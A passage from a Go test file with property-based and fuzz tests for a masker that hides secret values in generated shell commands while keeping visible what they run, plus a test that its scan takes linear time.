	fill("VALUE", rapid.SampledFrom([]string{"x", "hunter2", "a,b", "v=1", "2026"}).Draw(t, "value"))
	return s
}

// drawShell draws a few statements, one after the other, with what may stand between and around them.
func drawShell(t *rapid.T) shellText {
	var all shellText
	for n := range rapid.IntRange(1, 3).Draw(t, "statements") {
		s := shellStatement(t)
		if n > 0 {
			all.text += rapid.SampledFrom([]string{"\n", "; ", " && ", " || ", " | ", " & ", "\n# it's a comment\n"}).Draw(t,
				"between")
		}
		all.text += s.text
		all.runs, all.secrets = append(all.runs, s.runs...), append(all.secrets, s.secrets...)
	}
	switch rapid.IntRange(0, 5).Draw(t, "around") {
	case 0:
		if !strings.Contains(all.text, "'") {
			all.text = "sh -c '" + all.text + "'"
		}
	case 1:
		all.text = "sudo -E env A=b " + all.text
	case 2:
		all.text = "cd x && { " + all.text + "\n}"
	}
	return all
}

// checkShown holds that of a text all that runs is shown, and nothing that is secret, to those who decide.
func checkShown(t interface {
	Helper()
	Fatalf(string, ...any)
}, s shellText) {
	t.Helper()
	text, _ := new(Masker).Text(s.text)
	argv, _ := new(Masker).Args([]byte(`{"argv":["bash","-c",` + quoted(s.text) + `],"command":` + quoted(s.text) + `}`))
	for _, shown := range []string{text, string(argv)} {
		for _, run := range s.runs {
			if !strings.Contains(shown, run) {
				t.Fatalf("%q runs %q, which is not shown in %q", s.text, run, shown)
			}
		}
	}
	logged, _ := new(Masker).ForLogs().Text(s.text)
	for _, shown := range []string{text, string(argv), logged} {
		for _, hidden := range s.secrets {
			if strings.Contains(shown, hidden) || strings.Contains(shown, hidden[len(hidden)/2:]) {
				t.Fatalf("%q holds %q, which is shown in %q", s.text, hidden, shown)
			}
		}
	}
}

func TestRule3_WhateverAShellRunsIsShown(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) { checkShown(t, drawShell(t)) })
}

func FuzzShellMask(f *testing.F) {
	f.Fuzz(rapid.MakeFuzz(func(t *rapid.T) { checkShown(t, drawShell(t)) }))
}

func TestScanOfCommandsTakesLinearTime(t *testing.T) {
	size := linearSize()
	for _, unit := range []string{"sudo -p token: x ", "$(", "`", "${", "(", ")", "token=x ", "token=$x ", "{", `"`, "' ",
		"\\", "\\\n", "sudo \" ", "token: x\n", "a/token=x ", "a,token=x,", "{token=a,", "eval ", "> "} {
		for _, m := range []*Masker{new(Masker), new(Masker).ForLogs()} {
			text := strings.Repeat(unit, size/len(unit))
			start := time.Now()
			m.Text(text)
			m.Args([]byte(`{"a":[` + quoted(text) + `,"--token",` + quoted(text) + `],"token":` + quoted(text) + `}`))
			if took := time.Since(start); took > testkit.Patience {
				t.Errorf("%q repeated: %v", unit, took)
			}
		}
	}
}
